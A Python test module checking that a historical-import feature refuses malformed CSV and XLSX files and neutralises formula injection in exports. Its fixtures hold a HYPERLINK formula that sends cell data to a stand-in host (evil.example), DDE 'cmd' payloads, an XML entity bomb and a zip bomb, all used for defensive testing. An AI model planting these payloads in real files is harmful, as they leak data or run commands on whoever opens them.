"""Hostile spreadsheets for the historical import (exchange/historical/, services/historical_import.py,
`fidelity import`, the Import page), and formula injection through the exports (exchange/export.py).

A file is imported whole, or refused with problems naming the row and column (or the file and
sheet) and nothing written: row counts and audit log unchanged, on SQLite and PostgreSQL.
Text that looks like a formula (=HYPERLINK(…), +cmd, -1+1, @SUM(…)) is stored as the text it
is, and every export makes it inert (a leading single quote; in XLSX a text cell, never a
formula), including the app's CSV downloads.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import update
from streamlit.testing.v1 import AppTest

from exchange.export import table_csv, tables_xlsx
from exchange.historical import WideImportError, read, read_wide_file
from services import final_batch, historical_import
from services import reviews as svc
from services.database import Database
from services.errors import ValidationProblem
from services.exports import item_ratings_table, reviews_table, wide_table
from services.historical_import import import_wide
from storage.models import Program
from tests.hostile.conftest import ADMIN, FAST, REPO, assert_refused, call, fidelity, snapshot

DACTS = [f"H{i}" for i in range(1, 12)] + [f"O{i}" for i in range(1, 8)] + [f"S{i}" for i in range(1, 11)]
HEADER = ["program", "provider", "region", "date", "scale", "raters", *DACTS]
FORMULAS = {
    "program": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "provider": "+cmd|' /C calc'!A0",
    "region": "-1+1",
    "raters": "@SUM(1+1)*cmd|' /C calc'!A0; =1+2",
}
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

hostile_cell = st.one_of(
    st.none(),
    st.text(max_size=12),
    st.integers(-(10**20), 10**20).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.sampled_from([
        "4", "5", "1", "0", "6", "4.0", "4.5", "NA", "n/a", "-", "1e999", "1e999999999", "-inf", "nan", "sNaN",
        "=1+1", "+cmd", "-1+1", "@SUM(A1)", "'=SUM(A1)", "\x00", "a\x00b", "\u202ex", "\x1b[2J", "<b>x</b>",
        "**x**", "x" * 300, "2026-02-30", "13/45/2020", "3/14/2024", "2024-03-14", "dacts", "DACTS", "iddt",
        "baseline", "follow-up", "bogus", "ana; ana", "ana;" + "b" * 101, ";;;", "\"", "\r\n", "\ufeff",
    ]),
)  # fmt: skip


def stored_before_the_rule(db: Database, name: str, legacy: str) -> None:
    """Rename a program as SQL would: a name stored before control characters were refused."""
    with db.writing() as s:
        s.execute(update(Program).where(Program.name == name).values(name=legacy))


def csv_bytes(rows: list[list[Any]], header: list[str] = HEADER) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def good_row(program: str = "Riverside ACT", date: str = "2021-03-01", rating: int = 4) -> list[Any]:
    return [program, "Acme", "North", date, "dacts", "ana; ben", *([rating] * len(DACTS))]


def xlsx_bytes(rows: list[list[Any]], header: list[str] = HEADER) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(raw: bytes, change: dict[str, bytes | None]) -> bytes:
    """The workbook with some of its parts replaced (None: removed)."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            data = change.get(name, source.read(name))
            if data is not None:
                target.writestr(name, data)
        for name, data in change.items():
            if name not in source.namelist() and data is not None:
                target.writestr(name, data)
    return out.getvalue()


def import_file(db: Database, raw: bytes, name: str) -> Any:
    frame = read_wide_file(raw, name)
    return import_wide(db, frame, actor=ADMIN, source=name)


def assert_cells_named(exc: WideImportError) -> None:
    assert exc.row_problems
    for problem in exc.row_problems:
        assert problem.row >= 1 and problem.column, problem
        assert str(problem).startswith(f"row {problem.row}, column {problem.column}: ") or problem.source
        assert "\n" not in str(problem)


# ---- random files ---------------------------------------------------------------------------------


@FAST
@given(
    st.lists(st.lists(hostile_cell, min_size=0, max_size=len(HEADER) + 2), min_size=1, max_size=4), st.data()
)
def test_a_hostile_csv_is_imported_whole_or_refused_by_row_and_column(
    sqlite_db: Database, cells: list[list[Any]], data: st.DataObject
) -> None:
    rows = []
    for row in cells:  # mostly valid rows with hostile cells in them, so the checks get exercised
        base = good_row(date=f"20{data.draw(st.integers(10, 25))}-01-01")
        for i, value in enumerate(row):
            if data.draw(st.booleans()) and i < len(base):
                base[i] = value
        rows.append(base)
    before = snapshot(sqlite_db)
    try:
        summary = import_file(sqlite_db, csv_bytes(rows), "history.csv")
    except WideImportError as exc:
        assert_cells_named(exc)
        assert snapshot(sqlite_db) == before
        return
    except ValidationProblem as exc:
        assert all(p.startswith("history.csv") and "\n" not in p for p in exc.problems), exc.problems
        assert snapshot(sqlite_db) == before
        return
    assert summary.created + summary.skipped_existing == len(rows)


@FAST
@given(st.binary(max_size=600), st.sampled_from(["x.csv", "x.xlsx", "x.txt", "x"]))
def test_random_bytes_are_refused_naming_the_file(raw: bytes, name: str) -> None:
    try:
        frame = read_wide_file(raw, name)
    except WideImportError as exc:
        assert_cells_named(exc)
        return
    except ValidationProblem as exc:
        assert all(p.startswith(name) and "\n" not in p for p in exc.problems), exc.problems
        return
    assert isinstance(frame, pd.DataFrame)


# ---- broken and oversized workbooks ---------------------------------------------------------------


def broken_workbooks() -> dict[str, bytes]:
    good = xlsx_bytes([good_row()])
    sheet = zipfile.ZipFile(io.BytesIO(good)).read("xl/worksheets/sheet1.xml")
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"".join([b"&%c;" % (97 + i)] * 10)) for i in range(8))
        + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&i;</t></is></c></row></sheetData></worksheet>'
    )
    return {
        "not a zip": b"PK\x03\x04 this is not a workbook",
        "truncated zip": good[: len(good) // 2],
        "no content types": rezip(good, {"[Content_Types].xml": None}),
        "broken content types": rezip(good, {"[Content_Types].xml": b"<Types"}),
        "truncated sheet xml": rezip(good, {"xl/worksheets/sheet1.xml": sheet[: len(sheet) // 2]}),
        "a number cell that is not a number": rezip(
            good, {"xl/worksheets/sheet1.xml": sheet.replace(b"<v>4</v>", b"<v>four</v>", 1)}
        ),
        "an entity bomb": rezip(good, {"xl/worksheets/sheet1.xml": bomb}),
        "a broken workbook part": rezip(good, {"xl/workbook.xml": b"\x00\x01\x02"}),
    }


@pytest.mark.parametrize("case", list(broken_workbooks()))
def test_a_broken_workbook_is_refused_naming_the_file(case: str) -> None:
    with pytest.raises(ValidationProblem) as caught:
        read_wide_file(broken_workbooks()[case], "history.xlsx")
    assert all(p.startswith("history.xlsx") and "\n" not in p for p in caught.value.problems), (
        caught.value.problems
    )


def test_a_forged_used_range_does_not_make_billions_of_cells(tmp_path: Path) -> None:
    """A few kilobytes with one cell at XFD1048576: every row padded to it is 17 billion cells
    (a hang and then no memory, so it runs in a child process)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append(good_row())
    sheet.cell(row=1_048_576, column=16_384, value="x")
    path = tmp_path / "history.xlsx"
    workbook.save(path)
    assert path.stat().st_size < 10_000
    script = (
        "import sys\n"
        "from exchange.historical import read_wide_file\n"
        "from services.errors import ValidationProblem\n"
        "try:\n"
        "    read_wide_file(sys.argv[1])\n"
        "except ValidationProblem as exc:\n"
        "    print(*exc.problems, sep='\\n')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(path)], capture_output=True, text=True, cwd=REPO, timeout=60
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "history.xlsx, sheet Sheet: row 1,048,576: more than 100,000 rows; split the file"
    ]


def test_a_sheet_that_claims_a_huge_size_but_holds_a_small_table_is_read() -> None:
    raw = xlsx_bytes([good_row()])
    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")
    forged = rezip(
        raw,
        {
            "xl/worksheets/sheet1.xml": sheet.replace(
                b'<dimension ref="A1:AH2"/>', b'<dimension ref="A1:XFD1048576"/>'
            )
        },
    )
    assert forged != raw
    frame = read_wide_file(forged, "history.xlsx")
    assert len(frame) == 1 and frame["program"].tolist() == ["Riverside ACT"]


def test_a_zip_bomb_is_refused_before_it_is_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(read, "MAX_UNPACKED_BYTES", 50_000)
    padded = rezip(xlsx_bytes([good_row()]), {"docProps/padding.xml": b" " * 60_000})
    assert len(padded) < 20_000
    with pytest.raises(ValidationProblem) as caught:
        read_wide_file(padded, "history.xlsx")
    assert caught.value.problems == ["history.xlsx: the workbook unpacks to more than 50,000 bytes"]


def test_too_many_columns_are_refused_not_crashed_on() -> None:
    header = [*HEADER, *(f"extra {i}" for i in range(20_000))]
    with pytest.raises(ValidationProblem) as caught:
        read_wide_file(csv_bytes([[*good_row(), *(["x"] * 20_000)]], header), "wide.csv")
    assert caught.value.problems == ["wide.csv: row 1 has a value in column 20,034; at most 1,000 are read"]


def test_a_utf16_csv_from_excel_is_read_as_text_not_nul_characters() -> None:
    text = "\t".join(HEADER) + "\n" + "\t".join(str(v) for v in good_row("Zoë Núñez ACT")) + "\n"
    frame = read_wide_file(text.encode("utf-16"), "unicode.txt")
    assert frame["program"].tolist() == ["Zoë Núñez ACT"]


@pytest.mark.parametrize("column", ["program", "provider", "raters", "H3"])
def test_a_nul_character_in_any_cell_is_refused_by_row_and_column(db: Database, column: str) -> None:
    row = good_row()
    row[HEADER.index(column)] = "a\x00b"
    before = snapshot(db)
    with pytest.raises(WideImportError) as caught:
        import_file(db, csv_bytes([good_row("Other ACT"), row]), "history.csv")
    assert [str(p) for p in caught.value.row_problems] == [
        f"row 3, column {column}: contains a NUL character (\\0), which cannot be stored"
    ]
    assert snapshot(db) == before


@pytest.mark.parametrize(
    ("column", "expected"),
    [
        ("program", "the program name is longer than 200 characters"),
        ("provider", "provider is longer than 200 characters"),
        ("region", "region is longer than 200 characters"),
    ],
)
def test_a_new_programs_name_too_long_to_store_is_refused_by_row_and_column(
    db: Database, column: str, expected: str
) -> None:
    """The rows' checks refuse what services.programs.new_program would, before anything is written."""
    row = good_row("New ACT")
    row[HEADER.index(column)] = "x" * 201
    before = snapshot(db)
    with pytest.raises(WideImportError) as caught:
        import_file(db, csv_bytes([good_row("Other ACT"), row]), "history.csv")
    assert [str(p) for p in caught.value.row_problems] == [f"row 3, column {column}: {expected}"]
    assert snapshot(db) == before


def test_a_program_new_program_refuses_is_refused_by_its_row(
    db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Should new_program refuse a value the rows' checks let through, the import names the row
    (the program column) and writes nothing, the rows before it included."""
    original = historical_import.new_program

    def refusing(s: Any, log: Any, name: str, **values: Any) -> Any:
        if name == "New ACT":
            raise ValidationProblem("a program named 'New ACT' already exists")
        return original(s, log, name, **values)

    monkeypatch.setattr(historical_import, "new_program", refusing)
    before = snapshot(db)
    with pytest.raises(WideImportError) as caught:
        import_file(db, csv_bytes([good_row("Other ACT"), good_row("New ACT")]), "history.csv")
    assert [str(p) for p in caught.value.row_problems] == [
        "row 3, column program: a program named 'New ACT' already exists"
    ]
    assert snapshot(db) == before


# ---- the command and the transaction --------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        (
            "bad.csv",
            csv_bytes([good_row(), good_row(rating=6)]),
            "row 3, column H1: rating 6 is out of range 1..5",
        ),
        (
            "bad.csv",
            csv_bytes([good_row(), [*good_row()[:3], "2026-02-30", *good_row()[4:]]]),
            "row 3, column date: ",
        ),
        (
            "bad.csv",
            csv_bytes([good_row(), [*good_row()[:6], "1e999999999", *good_row()[7:]]]),
            "a rating must be a whole number from 1 to 5 in digits (3, not 3.0), or blank when not rated; "
            "got '1e999999999'",
        ),
        ("bad.xlsx", broken_workbooks()["truncated sheet xml"], "bad.xlsx: not a readable XLSX workbook"),
        ("bad.xlsx", b"", "bad.xlsx: not a readable XLSX workbook"),
        ("bad.xls", b"\xd0\xcf\x11\xe0", "old-style .xls workbooks cannot be read"),
        ("bad.pdf", b"%PDF-1.4", "import a .csv or an .xlsx file, not .pdf"),
    ],
    ids=["rating 6", "impossible date", "1e999999999", "broken xml", "empty xlsx", "xls", "pdf"],
)
def test_fidelity_import_refuses_with_exit_2_and_writes_nothing(
    db: Database, tmp_path: Path, name: str, content: bytes, expected: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    before = snapshot(db)
    code, _out, err = fidelity("import", str(path))
    assert_refused(code, err, expected)
    assert snapshot(db) == before


def test_a_failure_in_the_middle_of_the_import_rolls_back_every_row(
    db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Checked rows can still fail while they are written: the one transaction takes it all back."""
    raw = csv_bytes(
        [good_row("A ACT", "2021-01-01"), good_row("B ACT", "2022-01-01"), good_row("C ACT", "2023-01-01")]
    )
    frame = read_wide_file(raw, "history.csv")
    monkeypatch.setattr(final_batch, "CHUNK_REVIEWS", 1)  # the first two rows are written first
    original, calls = final_batch.final_facts, []

    def failing_facts(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        if len(calls) == 3:
            raise ValidationProblem("the third row failed while it was written")
        return original(*args, **kwargs)

    monkeypatch.setattr(final_batch, "final_facts", failing_facts)
    before = snapshot(db)
    with pytest.raises(ValidationProblem):
        import_wide(db, frame, actor=ADMIN)
    assert len(calls) == 3
    assert snapshot(db) == before
    monkeypatch.setattr(final_batch, "final_facts", original)
    assert import_wide(db, frame, actor=ADMIN).created == 3


# ---- formula injection ----------------------------------------------------------------------------


def formula_row() -> list[Any]:
    row = good_row()
    for column, value in FORMULAS.items():
        row[HEADER.index(column)] = value
    return row


def assert_inert(cell: Any) -> None:
    """A text cell a spreadsheet would run is quoted (a plain number such as -2 is a number)."""
    if isinstance(cell, str) and cell.lstrip("'") and not re.fullmatch(r"[-+]?\d+(\.\d+)?", cell):
        assert not cell.startswith(FORMULA_START), cell


def test_formula_text_is_stored_as_text_and_every_export_neutralises_it(db: Database) -> None:
    summary = import_file(db, csv_bytes([formula_row()]), "formulas.csv")
    assert summary.created == 1
    program = call(svc.list_programs, db)[0]
    assert program.name == FORMULAS["program"]  # stored exactly as typed: text, not evaluated
    assert (program.provider, program.region) == (FORMULAS["provider"], FORMULAS["region"])
    review = call(svc.get_review, db, summary.review_ids[0])
    assert list(review.raters) == ["@SUM(1+1)*cmd|' /C calc'!A0", "=1+2"]

    tables = {
        "reviews": call(reviews_table, db),
        "items": call(item_ratings_table, db),
        "wide": call(wide_table, db),
    }
    for name, frame in tables.items():
        rows = list(csv.reader(io.StringIO(table_csv(frame).decode("utf-8-sig"))))
        for cell in (c for row in rows for c in row):
            assert_inert(cell)
        assert f"'{FORMULAS['program']}" in [c for row in rows for c in row], name

    workbook = load_workbook(io.BytesIO(tables_xlsx(tables)))
    seen = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert_inert(cell.value)
                seen.append(cell.value)
    assert f"'{FORMULAS['program']}" in seen and f"'{FORMULAS['region']}" in seen


def test_an_exported_wide_file_imports_back_as_the_same_text(
    db: Database, sqlite_template: Any, tmp_path: Path
) -> None:
    from services.database import Database as Db

    import_file(db, csv_bytes([formula_row()]), "formulas.csv")
    exported = table_csv(call(wide_table, db))
    other = Db(sqlite_template.copy(tmp_path / "other.db"), registry=db.registry)
    try:
        import_file(other, exported, "exported.csv")
        program = call(svc.list_programs, other)[0]
        assert (program.name, program.provider, program.region) == (
            FORMULAS["program"], FORMULAS["provider"], FORMULAS["region"]
        )  # fmt: skip
    finally:
        other.dispose()


def test_control_characters_do_not_break_the_xlsx_export(db: Database) -> None:
    """A worksheet cannot hold most control characters; openpyxl refused the whole workbook.
    A name can no longer hold them, but one stored before that rule can; free text still can."""
    call(svc.create_program, db, "Team Red", model="ACT")
    from services.review_file import parse_review_data
    from services.review_import import import_review_file
    from tests.hostile.conftest import example_review

    data = {**example_review(), "program": "Team Red", "summary": "bell \x07 and \x0b tab"}
    import_review_file(db, parse_review_data(data, db.registry, "r.yaml"), actor=ADMIN)
    stored_before_the_rule(db, "Team Red", "Team \x1b[31mRed\x07")
    raw = tables_xlsx({"reviews": call(reviews_table, db), "wide": call(wide_table, db)})
    workbook = load_workbook(io.BytesIO(raw))
    assert workbook["reviews"]["C2"].value == "Team \ufffd[31mRed\ufffd"


@FAST
@given(st.lists(st.text(min_size=1, max_size=20), min_size=1, max_size=5))
def test_every_text_cell_of_a_csv_or_xlsx_export_is_inert(values: list[str]) -> None:
    frame = pd.DataFrame({"text": values, "=head": values, "n": range(len(values))})
    rows = list(csv.reader(io.StringIO(table_csv(frame).decode("utf-8-sig"), newline="")))
    for cell in (c for row in rows for c in row):
        assert_inert(cell)
    workbook = load_workbook(io.BytesIO(tables_xlsx({"t": frame})))
    for row in workbook.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert_inert(cell.value)


# ---- the Import page ------------------------------------------------------------------------------


@pytest.fixture
def page(sqlite_url: str) -> AppTest:
    app = AppTest.from_file(str(REPO / "app.py"), default_timeout=60).run()
    app.switch_page("app_pages/import_page.py").run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def upload(page: AppTest, *files: tuple[str, bytes, str]) -> AppTest:
    page.file_uploader(key="import_files").set_value(list(files)).run()
    assert not page.exception, [e.value for e in page.exception]
    return page


@pytest.mark.parametrize(
    ("name", "content", "mime"),
    [
        (
            "history.csv",
            csv_bytes([formula_row(), [*formula_row()[:6], "=1+1", *formula_row()[7:]]]),
            "text/csv",
        ),
        ("history.csv", csv_bytes([good_row(), [*good_row()[:6], "a\x00b", *good_row()[7:]]]), "text/csv"),
        ("history.xlsx", broken_workbooks()["truncated sheet xml"], XLSX_MIME),
        ("history.xlsx", broken_workbooks()["an entity bomb"], XLSX_MIME),
        ("**bold** <b>x</b>.csv", b"\xff\xfe\x00", "text/csv"),
    ],
    ids=["formula in a rating", "NUL", "broken xml", "entity bomb", "markup file name"],
)
def test_the_import_page_shows_problems_and_imports_nothing(
    page: AppTest, sqlite_db: Database, name: str, content: bytes, mime: str
) -> None:
    before = snapshot(sqlite_db)
    upload(page, (name, content, mime))
    assert any("nothing was imported" in e.value for e in page.error), [e.value for e in page.error]
    assert not [b for b in page.button if b.label.startswith("Import ")]
    assert snapshot(sqlite_db) == before


def test_the_import_page_imports_formula_text_as_text_and_still_offers_exports(
    page: AppTest, sqlite_db: Database
) -> None:
    upload(page, ("history.csv", csv_bytes([formula_row()]), "text/csv"))
    next(b for b in page.button if b.label.startswith("Import 1 review")).click().run()
    assert not page.exception, [e.value for e in page.exception]
    assert [p.name for p in call(svc.list_programs, sqlite_db)] == [FORMULAS["program"]]
    labels = [b.label for b in page.get("download_button")]
    assert "Reviews and item ratings (XLSX)" in labels


def test_the_import_page_survives_control_characters_in_stored_names(
    page: AppTest, sqlite_db: Database
) -> None:
    """The page builds its XLSX export on every run: one bad name used to break the whole page."""
    upload(page, ("history.csv", csv_bytes([good_row("Bell ACT")]), "text/csv"))
    next(b for b in page.button if b.label.startswith("Import 1 review")).click().run()
    assert not page.exception, [e.value for e in page.exception]
    stored_before_the_rule(sqlite_db, "Bell ACT", "Bell \x07 ACT")  # names refuse it now
    page.run()
    assert not page.exception, [e.value for e in page.exception]
    assert "Reviews and item ratings (XLSX)" in [b.label for b in page.get("download_button")]


def test_the_apps_csv_downloads_neutralise_formulas_too(
    sqlite_db: Database, sqlite_url: str, recorded: dict[str, object]
) -> None:
    """The Drift and Compare pages offer their tables as CSV: a program named =HYPERLINK(…)
    must not become a live formula there either."""
    rows = [formula_row(), [*formula_row()[:3], "2022-03-01", *formula_row()[4:6], *([2] * len(DACTS))]]
    import_file(sqlite_db, csv_bytes(rows), "formulas.csv")
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=60).run()
    views = {  # each tab and section offers its own downloads
        "drift": [("drift_view", "Program")]
        + [
            ("drift_section", s)
            for s in ("Items that fell", "Low twice", "Scores over time", "Item ratings", "Every fall")
        ],
        "compare": [
            ("compare_view", t) for t in ("Programs below", "Providers below", "Bands", "Items", "Weak spots")
        ],
    }
    for page, steps in views.items():
        at.switch_page(f"app_pages/{page}.py").run()
        for key, view in steps:
            at.session_state[key] = view
            at.run()
            assert not at.exception, [e.value for e in at.exception]
    csvs = {name: data for name, data in recorded.items() if name.endswith(".csv")}
    assert len(csvs) >= 8, sorted(recorded)
    quoted = []
    for name, made in csvs.items():
        data = made() if callable(made) else made  # some are made only when clicked
        assert isinstance(data, bytes), name
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
        for cell in cells:
            assert_inert(cell)
        quoted += [name for c in cells if c == f"'{FORMULAS['program']}"]
    assert any(n.startswith("drift-overview") for n in quoted) and any(
        n.startswith("ranking") for n in quoted
    )
